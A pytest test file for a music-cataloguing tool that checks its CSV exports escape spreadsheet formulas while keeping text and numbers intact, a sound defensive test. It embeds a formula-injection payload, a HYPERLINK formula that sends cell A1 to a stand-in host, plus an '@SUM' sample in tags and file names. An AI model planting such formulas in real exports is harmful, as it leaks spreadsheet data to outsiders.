"""CSV for spreadsheets: texts do not become formulas, and numbers do not change."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from genrelens.csv_cells import original_cell, readable_row, safe_row
from genrelens.data.folders import LabelledClip
from genrelens.data.splits import Split
from genrelens.evaluation.prediction_table import PredictionTable
from genrelens.library import Catalog, export_entries
from genrelens.tags import Tags
from support.commands import run
from support.library_folder import stored

FORMULA = '=HYPERLINK("http://x/?"&A1)'
SPREADSHEET = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

words = st.text(st.sampled_from("'=+-@\t\r\n\uff1dab1"), max_size=5)


@given(words)
def test_no_cell_is_a_formula_and_the_text_is_recovered(text: str) -> None:
    [plain], [safe] = readable_row([text], safe=False), readable_row([text], safe=True)
    assert not safe.startswith(SPREADSHEET)
    assert original_cell(plain) == original_cell(safe) == text


@given(words)
def test_only_formulas_are_changed(text: str) -> None:
    [safe] = safe_row([text])
    assert safe == (f"'{text}" if text.lstrip("'").startswith(SPREADSHEET) else text)


def test_numbers_are_not_changed() -> None:
    assert safe_row([-0.5, -7, None, np.float64(-1e-9), True]) == [-0.5, -7, None, -1e-9, True]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ------------------------------------------------------------------------------- the library


@pytest.fixture
def catalog(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Catalog:
    monkeypatch.setenv("GENRELENS_DB", str(tmp_path / "catalog.sqlite"))
    tags = Tags("ID3v2.4", ("+1", "-2"), FORMULA, "@SUM(1)", "-0.5")
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "x.mp3").write_bytes(b"x")
    status = (tmp_path / "m" / "x.mp3").stat()
    with Catalog.open() as catalog:
        catalog.record(
            tmp_path / "m" / "x.mp3",
            size=1,
            mtime_ns=status.st_mtime_ns,
            digest="a" * 40,
            tags=tags,
            prediction=stored("-jazz"),
        )
    return catalog


def test_export(catalog: Catalog, tmp_path: Path) -> None:
    file = io.BytesIO()
    with Catalog.open() as opened:
        export_entries(opened.query(), file, "csv", relative_to=tmp_path / "m", safe_csv=True)
        plain = io.BytesIO()
        export_entries(opened.query(), plain, "csv", relative_to=tmp_path / "m")
    header, row = cells(file.getvalue().decode())
    found = dict(zip(header, row, strict=True))
    assert (found["artist"], found["album"]) == (f"'{FORMULA}", "'@SUM(1)")
    assert (found["title"], found["tagged"], found["genre"]) == ("'-0.5", "'+1|-2", "'-jazz")
    assert (found["path"], found["probability"], found["duration"]) == ("x.mp3", "0.8", "200.0")
    assert cells(plain.getvalue().decode())[1][1:4] == [FORMULA, "@SUM(1)", "-0.5"]


def test_list_and_audit(
    catalog: Catalog, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shown = run(capsys, "list", "-f", "csv", "--safe-csv")
    assert cells(shown.out)[1][1] == f"'{FORMULA}"
    assert run(capsys, "list", "-o", tmp_path / "x.csv", "--safe-csv").code == 0
    assert cells((tmp_path / "x.csv").read_text())[1][1] == f"'{FORMULA}"
    assert run(capsys, "audit", "--csv", "--safe-csv", tmp_path / "m").code == 0
    for wrong in ("list", "audit .", "classify x.mp3"):
        refused = run(capsys, *wrong.split(), "--safe-csv")
        assert (refused.code, "--safe-csv needs" in refused.err) == (2, True)


def test_classify(classify: Any, music: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = next(music.rglob("*.wav"))
    path.rename(path.with_name("=x.wav"))
    monkeypatch.chdir(path.parent)
    for options, name in (([], "=x.wav"), (["--safe-csv"], "'=x.wav")):
        result = classify("--csv", *options, "=x.wav")
        assert [row[0] for row in cells(result.out)] == ["path", name]


# ----------------------------------------------------------------------------- predictions


@pytest.fixture
def table() -> PredictionTable:
    return PredictionTable(
        labels=("=pop", "'+rock", "jazz"),
        clips=("=a", "-b", "'=c"),
        true=np.array([0, 1, 2]),
        probabilities=np.eye(3) * 0.5 + 0.5 / 3,
        groups=("@x", "+y", "z"),
    )


@pytest.mark.parametrize("safe", [False, True])
def test_predictions_are_recovered(table: PredictionTable, tmp_path: Path, safe: bool) -> None:
    table.save(tmp_path / "t.csv", safe_csv=safe)
    written = cells((tmp_path / "t.csv").read_text())
    if safe:
        assert not [cell for row in written for cell in row if cell.startswith(SPREADSHEET)]
    found = PredictionTable.load(tmp_path / "t.csv")
    assert found.to_dict() == table.to_dict()


def test_a_safe_table_compares_with_a_plain_one(
    table: PredictionTable, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    table.save(tmp_path / "plain.csv")
    table.save(tmp_path / "safe.csv", safe_csv=True)
    compared = run(capsys, "compare", tmp_path / "plain.csv", tmp_path / "safe.csv")
    assert compared.code == 0, compared.err


@pytest.mark.parametrize("safe", [False, True])
def test_splits_are_recovered(tmp_path: Path, safe: bool) -> None:
    names = ("=a", "-b", "'@c", "d")
    clips = tuple(LabelledClip(Path(f"{n}.wav"), "+pop", group=f"-{n}") for n in names)
    parts = ("train", "test", "test", "train")
    made = Split(protocol="file", clips=clips, rounds=(parts,))
    made.save(tmp_path / "s.csv", safe_csv=safe)
    found = Split.load(tmp_path / "s.csv", [LabelledClip(c.path, c.label) for c in clips])
    assert found.rounds == (parts,)
    assert [clip.group for clip in found.clips] == [clip.group for clip in clips]
    assert found.digest == made.digest
